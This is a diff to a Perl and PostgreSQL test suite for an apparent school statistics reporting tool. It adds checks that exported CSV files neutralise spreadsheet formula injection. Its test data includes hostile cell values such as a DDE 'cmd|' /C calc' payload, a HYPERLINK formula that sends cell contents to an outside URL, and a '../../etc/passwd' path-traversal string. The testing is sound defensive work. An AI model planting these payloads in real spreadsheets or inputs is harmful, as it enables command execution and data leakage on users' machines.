@@ -28,6 +28,9 @@ UPDATE abie.school SET postcode = 'AB' || urn % 7 || ' ' || urn % 9 || 'XY';
 UPDATE abie.school SET name = \$t\$$hostile_name\$t\$ WHERE urn = 900016;
 UPDATE abie.school SET name = E'../../etc/passwd\\\\N\\ttab, "quoted"\\nline' WHERE urn = 900017;
 UPDATE abie.school SET name = U&'St Zo\\00EB\\2019s' WHERE urn = 900018;
+-- what spreadsheets take for a formula, and what only looks like one
+UPDATE abie.school SET name = (ARRAY['=HYPERLINK("http://x/"&A1,"School")', '+1+cmd|'' /C calc''!A0', '-2+3', '\@SUM(1,2)', E'\\t=1+1', E'\\r=1', '-12.5', 'A=1', '''=1'])[urn / 30 - 30000]
+WHERE urn % 30 = 19 AND urn < 900300;
 CALL abie.calculate('2025/26');
 SELECT abie.issue(1, 'for the test');
 ANALYZE;
@@ -176,6 +179,15 @@ SET client_min_messages = warning;
 CREATE TEMP TABLE held AS SELECT * FROM $view;
 CREATE TEMP TABLE read (LIKE held);
 COPY read FROM '$folder/all/$path' WITH (FORMAT csv, HEADER match);
+DO \$\$
+DECLARE
+	name text;
+BEGIN
+	FOR name IN SELECT attname FROM pg_attribute WHERE attrelid = 'read'::regclass AND attnum > 0 AND atttypid = 'text'::regtype
+	LOOP
+		EXECUTE format(\$q\$UPDATE read SET %1\$I = regexp_replace(%1\$I, E'^''(?=''*[-=+@\\t\\r\\n])', '')\$q\$, name);
+	END LOOP;
+END \$\$;
 SELECT (SELECT count(*) FROM (SELECT h::text FROM held h WHERE $condition EXCEPT ALL SELECT r::text FROM read r) m),
 	(SELECT count(*) FROM (SELECT r::text FROM read r EXCEPT ALL SELECT h::text FROM held h WHERE $condition) m), count(*) > 0 FROM read;
 SQL
@@ -189,6 +201,37 @@ same_rows(hashed('trust', $hostile_trust) . '-trust_summary.csv', 'abie_report.t
 same_rows(hashed('region', 'London') . '-local_authority_summary.csv', 'abie_report.local_authority_summary', q{h.la_code IN (SELECT la_code FROM abie.school WHERE region = 'London')});
 same_rows('national/england-school_expectation.csv', 'abie_report.school_expectation', 'h.run_id = 1');
 same_rows("national/england-$_.csv", "abie_report.$_", 'h.run_id = 1') for qw(local_authority_summary national_summary trust_summary);
+# no cell is a formula, as Python reads them; names that would be are there, each as text
+my ($cells, $faults) = ('', '');
+IPC::Run::run([ 'python3', '-', "$folder/all" ], '<', \<<'PYTHON', '>', \$cells, '2>', \$faults);
+import csv, pathlib, re, sys
+csv.field_size_limit(1 << 30)
+cells = formulas = numbers = 0
+names = set()
+for path in sorted(pathlib.Path(sys.argv[1]).glob('**/*.csv')):
+    with open(path, newline='', encoding='utf-8') as file:
+        for row in csv.reader(file, strict=True):
+            for cell in row:
+                cells += 1
+                number = re.fullmatch(r'[-+]?(\d+(\.\d*)?|\.\d+)(e[-+]\d+)?', cell) is not None
+                numbers += number and cell[0] == '-'
+                formulas += cell[:1] in tuple('=+-@\t\r\n') and not number
+                if re.match("'+[=+@\t\r-]", cell):
+                    names.add(cell)
+print(cells > 10000, numbers > 1000, formulas, len(names))
+for name in sorted(names):
+    print(repr(name))
+PYTHON
+is("$cells$faults", <<'CELLS', 'no cell of CSV is a formula, numbers stand as they are');
+True True 0 7
+"'\t=1+1"
+"'\r=1"
+"''=1"
+"'+1+cmd|' /C calc'!A0"
+"'-2+3"
+'\'=HYPERLINK("http://x/"&A1,"School")'
+"'@SUM(1,2)"
+CELLS
 # a region's figures are those of its authorities together, the country's those of the regions
 is($node->safe_psql('postgres', <<"SQL"), 't|0|0', 'regions are the sum of their authorities, and the country of its regions');
 CREATE TEMP TABLE region AS SELECT * FROM abie_internal.region_summary(1) LIMIT 0;
